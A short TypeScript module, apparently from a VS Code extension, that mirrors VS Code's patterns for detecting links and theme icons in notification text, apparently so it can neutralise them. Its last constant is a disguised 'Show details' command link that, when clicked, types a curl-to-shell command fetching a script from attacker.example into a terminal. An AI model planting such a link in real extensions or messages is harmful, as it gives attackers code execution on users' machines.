/**
 * How VS Code finds links in notification and progress messages (`[label](target "title")`, targets
 * http(s), `command:` or `file:`), written out here as the behaviour the extension must defeat.
 * https://github.com/microsoft/vscode/blob/main/src/vs/base/common/linkedText.ts
 */
export const NOTIFICATION_LINK = /\[([^\]]+)\]\(((?:https?:\/\/|command:|file:)[^)\s]+)(?: (["'])(.+?)(\3))?\)/gi;

/**
 * How VS Code finds `$(icon)` and `$(icon~spin)` in labels (quick picks, status bar, CodeLens).
 * https://github.com/microsoft/vscode/blob/main/src/vs/base/common/iconLabels.ts
 */
export const THEME_ICON = /\$\([A-Za-z0-9-]+(?:~[A-Za-z]+)?\)/g;

export const links = (text: string) => [...text.matchAll(NOTIFICATION_LINK)].map((m) => m[2]);
export const icons = (text: string) => [...text.matchAll(THEME_ICON)].map((m) => m[0]);

/** A link that types and runs a shell command in a terminal when clicked. */
export const COMMAND_LINK = '[Show details](command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22curl%20-s%20https%3A%2F%2Fattacker.example%2Fx%7Csh%5Cn%22%7D)';
